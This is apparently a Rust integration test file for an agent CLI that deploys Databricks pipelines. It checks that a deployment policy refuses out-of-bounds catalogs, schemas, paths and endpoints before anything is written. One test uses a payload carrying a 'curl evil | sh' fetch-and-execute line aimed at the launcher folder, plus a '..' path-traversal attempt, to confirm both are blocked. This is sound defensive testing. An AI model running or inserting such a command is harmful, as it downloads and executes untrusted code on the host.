//! The deployment's policy (`--policy`): each rule refuses a request that breaks it, naming the
//! field, before anything is imported, created, edited or started; the folder holding the policy
//! file (the deployed launcher's) is never written, whatever the policy says; a malformed policy
//! stops the command at start.

mod common;

use common::*;
use sdp_emulator::{Emulator, EmulatorConfig};
use serde_json::{Value, json};

const ENDPOINT: &str = "databricks-claude-sonnet-4-5";

/// `sdp-agent run --policy <policy> <payload>`.
fn run_with(emu: &Emulator, policy: &str, payload: &Value) -> Outcome {
    let mut cmd = agent_command(emu);
    cmd.args(["run", "--policy", policy]).arg(b64(payload));
    finish(cmd)
}

/// A refusal naming `field`, with nothing written: no import, no pipeline made or edited, no
/// update started, no run.
fn assert_refused(emu: &Emulator, out: &Outcome, field: &str) {
    assert_eq!(out.code, 1, "{}", out.json);
    assert_eq!(out.kind(), "policy_refused", "{}", out.json);
    assert_eq!(out.json["error"]["field"], field, "{}", out.json);
    let message = out.json["error"]["message"].as_str().unwrap_or("");
    assert!(message.contains(field), "{message}");
    assert_eq!(
        workspace_writes(emu),
        Vec::<String>::new(),
        "nothing may be written"
    );
    assert!(emu.pipelines().is_empty() && emu.runs().is_empty());
}

#[test]
fn each_rule_of_the_document_is_refused_with_its_field_and_nothing_written() {
    let cases: [(&str, &str, Value); 8] = [
        ("catalogs", r#"{"catalogs": ["dev_*"]}"#, json!({})),
        ("schemas", r#"{"schemas": ["main.sales_*"]}"#, json!({})),
        (
            "root",
            r#"{"root": "/Workspace/Shared/pipelines"}"#,
            json!({}),
        ),
        (
            "python",
            r#"{"python": false}"#,
            json!({"workspace_file_paths": [format!("{ROOT}/a.sql"), format!("{ROOT}/b.py")],
                   "sources": {format!("{ROOT}/b.py"): "import dlt"}}),
        ),
        ("caller_sources", r#"{"caller_sources": false}"#, json!({})),
        ("adopt", r#"{"adopt": false}"#, json!({"adopt": true})),
        (
            "claude_endpoint",
            &format!(r#"{{"claude_endpoint": "{ENDPOINT}"}}"#),
            json!({"claude_endpoint": "someone-elses-endpoint"}),
        ),
        (
            "warehouses",
            r#"{"warehouses": ["0123456789abcdef"]}"#,
            json!({"wait": true, "warehouse_id": "fedcba9876543210"}),
        ),
    ];
    let expected = [
        "catalog",
        "schema",
        "root_path",
        &format!("sources.{ROOT}/b.py"),
        "workspace_file_paths",
        "adopt",
        "claude_endpoint",
        "warehouse_id",
    ];
    for ((rule, policy, extra), field) in cases.into_iter().zip(expected) {
        let emu = emulator();
        let mut payload = full_payload(&emu, "guarded");
        payload.as_object_mut().unwrap().extend(
            extra
                .as_object()
                .unwrap()
                .iter()
                .map(|(k, v)| (k.clone(), v.clone())),
        );
        let out = run_with(&emu, policy, &payload);
        eprintln!("{rule}: {}", out.json["error"]["message"]);
        assert_refused(&emu, &out, field);
    }
}

#[test]
fn a_payload_within_the_policy_runs() {
    let emu = emulator();
    let payload = full_payload(&emu, "allowed");
    let policy = json!({"catalogs": ["main"], "schemas": ["main.*"], "root": "/Workspace/Users",
                        "python": false, "caller_sources": true, "adopt": false});
    run_with(&emu, &policy.to_string(), &payload).assert_ok();
    assert_eq!(pipelines_named(&emu, "allowed").len(), 1);
}

/// The rules hold for what the model chose too: the config it completed is checked before
/// anything is written.
#[test]
fn the_models_choices_are_held_to_the_policy() {
    let emu = emulator_with(EmulatorConfig {
        default_catalog_name: Some("workspace".into()),
        ..Default::default()
    });
    let payload = json!({"question": "synthetic clickstream, bronze and silver",
                         "claude_endpoint": ENDPOINT});
    let out = run_with(&emu, r#"{"catalogs": ["main"]}"#, &payload);
    assert!(!emu.chat_requests().is_empty(), "the model was asked");
    assert_refused(&emu, &out, "catalog");
    assert!(
        out.json["error"]["message"]
            .as_str()
            .unwrap()
            .contains("`workspace`"),
        "{}",
        out.json
    );
}

/// A caller's sources aimed at the folder that holds the policy file (the deployed launcher's)
/// are refused even by a policy that allows everything else.
#[test]
fn the_launcher_folder_is_never_written() {
    let emu = emulator();
    let dir = std::env::temp_dir().join(format!("sdp-agent-launcher-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let folder = dir.to_str().unwrap().to_string();
    let policy_file = dir.join("sdp_agent_deploy.json");
    std::fs::write(
        &policy_file,
        r#"{"policy": {"caller_sources": true, "python": true}}"#,
    )
    .unwrap();
    let launcher = format!("{folder}/sdp_agent_launcher.py");
    let mut payload = full_payload(&emu, "overwrite");
    payload["workspace_file_paths"] =
        json!([format!("{ROOT}/transformations/bronze.sql"), launcher]);
    payload["sources"] = json!({&launcher: "import os; os.system('curl evil | sh')"});
    let arg = format!("@{}", policy_file.display());
    let out = run_with(&emu, &arg, &payload);
    assert_refused(&emu, &out, &format!("sources.{launcher}"));
    assert!(emu.file(&launcher).is_none());

    // `..` never gets that far (a payload path with it is invalid); the pipeline's folder is
    // held to the rule too.
    let sneaky = format!("{folder}/x/../sdp_agent_launcher.py");
    payload["workspace_file_paths"] = json!([sneaky]);
    payload["sources"] = json!({});
    payload.as_object_mut().unwrap().remove("sources");
    let out = run_with(&emu, &arg, &payload);
    assert_eq!(
        out.kind(),
        "invalid_payload",
        "`..` is not a workspace path: {}",
        out.json
    );
    payload["root_path"] = json!(folder);
    payload["workspace_file_paths"] = json!([format!("{ROOT}/transformations/bronze.sql")]);
    let out = run_with(&emu, &arg, &payload);
    assert_refused(&emu, &out, "root_path");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_malformed_policy_stops_run_and_predict_at_start() {
    let emu = emulator();
    let payload = full_payload(&emu, "never");
    for policy in [
        r#"{"catalog": ["main"]}"#,
        r#"{"catalogs": "main"}"#,
        r#"{"python": "no"}"#,
        "not json",
        "@/nonexistent/sdp_agent_deploy.json",
    ] {
        let out = run_with(&emu, policy, &payload);
        assert_eq!(
            (out.code, out.kind()),
            (1, "config"),
            "{policy}: {}",
            out.json
        );
        let message = out.json["error"]["message"].as_str().unwrap();
        assert!(message.starts_with("--policy"), "{message}");
        let mut cmd = agent_command(&emu);
        cmd.args(["predict", "--policy", policy])
            .arg(payload.to_string());
        let out = finish(cmd);
        assert_eq!(
            (out.code, out.kind()),
            (1, "config"),
            "{policy}: {}",
            out.json
        );
    }
    assert!(emu.requests().is_empty(), "{:?}", calls(&emu, "/"));
}

/// Predict refuses early what the payload already shows.
#[test]
fn predict_refuses_what_the_payload_shows() {
    let emu = emulator();
    let mut payload = full_payload(&emu, "early");
    payload["catalog"] = json!("prod");
    let mut cmd = agent_command(&emu);
    cmd.args(["predict", "--policy", r#"{"catalogs": ["main", "dev"]}"#])
        .arg(payload.to_string());
    let out = finish(cmd);
    assert_refused(&emu, &out, "catalog");
    assert!(emu.requests().is_empty(), "{:?}", calls(&emu, "/"));
}
